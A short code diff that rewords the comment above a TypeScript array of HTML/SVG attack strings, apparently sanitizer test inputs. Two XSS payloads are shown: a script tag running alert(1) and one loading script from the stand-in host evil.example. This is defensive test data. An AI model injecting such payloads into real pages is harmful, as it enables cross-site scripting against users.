@@ -1,4 +1,4 @@
-/** HTML and SVG that tries to become code, to load from elsewhere or to break out of where it stands. */
+/** HTML and SVG that try to run code, to load from another site or to break out of their element. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
